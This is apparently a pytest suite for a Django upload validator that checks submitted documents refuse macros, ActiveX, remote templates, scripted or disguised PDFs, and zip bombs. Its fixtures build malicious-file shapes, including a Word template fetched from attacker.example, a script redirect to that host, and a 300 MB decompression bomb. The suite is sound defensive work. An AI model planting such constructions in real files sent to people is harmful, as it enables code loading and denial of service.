"""A deliverable is accepted for what its file holds, not for its name or its first bytes."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from icc.journey.actions import generate_schedules, install_template
from icc.journey.demo import DEMO_PDF
from icc.journey.models import Milestone, Submission

MB = 1024 * 1024
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SLIDES_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SLIDES_MACROS = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="{main}"/></Relationships>'
)


@pytest.fixture
def scheduled(cast):
    install_template(programme=cast.programme)
    generate_schedules(programme=cast.programme)
    return cast


def submit(cast, name: str, content: bytes):
    milestone = Milestone.objects.first()
    assert milestone is not None
    url = reverse("journey:deliverable_submit", kwargs={"pk": cast.city_a.pk, "milestone_pk": milestone.pk})
    return cast.client_for("rep_a").post(url, {"document": SimpleUploadedFile(name, content), "note": ""})


def refused(cast, name: str, content: bytes) -> str:
    response = submit(cast, name, content)
    assert response.status_code == 200
    assert not Submission.objects.exists()
    return " ".join(response.context["upload_form"].errors["document"])


def package(main: str, content_type: str, *, extra: dict[str, bytes] | None = None, types: str = "") -> bytes:
    """A small Office Open XML package whose main part is ``main`` of ``content_type``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{main}" ContentType="{content_type}"/>{types}</Types>',
        )
        archive.writestr("_rels/.rels", RELS.format(main=main))
        archive.writestr(main, "<document/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(**kwargs) -> bytes:
    return package("word/document.xml", WORD_MAIN, **kwargs)


def xlsx() -> bytes:
    out = io.BytesIO()
    book = Workbook()
    book.active.append(["Deliverable", 1])
    book.save(out)
    return out.getvalue()


def xlsx_with(member: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        target.writestr(member, "<xm:macrosheet/>")
    return out.getvalue()


def opendocument(mimetype: str, *, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/></manifest:manifest>',
        )
        archive.writestr("content.xml", "<office:document-content/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf(body: bytes = b"", *, catalog: bytes = b"") -> bytes:
    """A well-formed one-page PDF, with ``body`` in its page's content stream and ``catalog`` in its catalog."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(body), body),
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# Accepted ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", pdf(b"BT /F1 12 Tf (Our strategy) Tj ET")),
        ("report.pdf", DEMO_PDF),
        ("report.docx", docx()),
        ("report.xlsx", xlsx()),
        ("report.pptx", package("ppt/presentation.xml", SLIDES_MAIN)),
        ("report.odt", opendocument("application/vnd.oasis.opendocument.text")),
        ("report.ods", opendocument("application/vnd.oasis.opendocument.spreadsheet")),
        ("report.odp", opendocument("application/vnd.oasis.opendocument.presentation")),
    ],
)
def test_plain_documents_of_each_accepted_type_are_accepted(scheduled, name, content):
    response = submit(scheduled, name, content)

    assert response.status_code == 302
    assert Submission.objects.get().original_name == name


# Macros and active content ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.docx", package("word/document.xml", WORD_MACROS, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("report.docx", package("word/document.xml", WORD_MACROS)),
        ("report.docx", docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("report.xlsx", package("xl/workbook.xml", SHEET_MACROS, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("report.pptx", package("ppt/presentation.xml", SLIDES_MACROS)),
        ("report.docx", docx(extra={"word/activeX/activeX1.xml": b"<ax/>"})),
        ("report.xlsx", xlsx_with("xl/macrosheets/sheet1.xml")),
        ("report.docx", docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    ],
)
def test_macro_enabled_documents_renamed_to_plain_ones_are_refused(scheduled, name, content):
    assert "macros or other active content" in refused(scheduled, name, content)


def test_a_docm_renamed_docx_is_refused_for_its_macros(scheduled):
    docm = package("word/document.xml", WORD_MACROS, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})

    message = refused(scheduled, "strategy.docx", docm)

    assert "holds macros or other active content" in message
    assert "Save it as a plain .docx file" in message


def test_a_document_that_loads_a_remote_template_is_refused(scheduled):
    settings_rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    message = refused(scheduled, "report.docx", docx(extra={"word/_rels/settings.xml.rels": settings_rels}))

    assert "attachedTemplate" in message


def test_opendocument_with_basic_macros_is_refused(scheduled):
    content = opendocument(
        "application/vnd.oasis.opendocument.text", extra={"Basic/Standard/Module1.xml": b"<script:module/>"}
    )

    assert "macros or other active content" in refused(scheduled, "report.odt", content)


def test_a_spreadsheet_renamed_as_a_text_document_is_refused(scheduled):
    content = opendocument("application/vnd.oasis.opendocument.spreadsheet")

    assert "is not a .odt document" in refused(scheduled, "report.odt", content)


# PDF -----------------------------------------------------------------------------------


def test_a_file_starting_with_pdf_followed_by_html_is_refused(scheduled):
    page = b"%PDF-1.7\n<html><body><script>document.location='https://attacker.example'</script></body></html>\n"

    assert "does not end like one" in refused(scheduled, "report.pdf", page)


def test_a_web_page_with_a_pdf_header_and_trailer_is_refused(scheduled):
    body = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

    assert "holds a web page" in refused(scheduled, "report.pdf", pdf(body))


def test_a_pdf_whose_cross_reference_is_missing_is_refused(scheduled):
    broken = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n999\n%%EOF\n"

    assert "cross-reference table is missing" in refused(scheduled, "report.pdf", broken)


def test_a_pdf_that_runs_javascript_is_refused(scheduled):
    scripted = pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")

    assert "/JavaScript" in refused(scheduled, "report.pdf", scripted)


# Size ----------------------------------------------------------------------------------


def test_a_small_document_that_expands_to_300_mb_is_refused_quickly(scheduled):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        info = zipfile.ZipInfo("word/media/image1.png")
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w") as stream:
            for _ in range(300):
                stream.write(b"\x00" * MB)
    bomb = out.getvalue()
    assert len(bomb) < 400 * 1024

    tracemalloc.start()
    started = time.perf_counter()
    try:
        message = refused(scheduled, "report.docx", bomb)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert "Unpacked, the file would take 300" in message
    assert time.perf_counter() - started < 2
    assert peak < 50 * MB
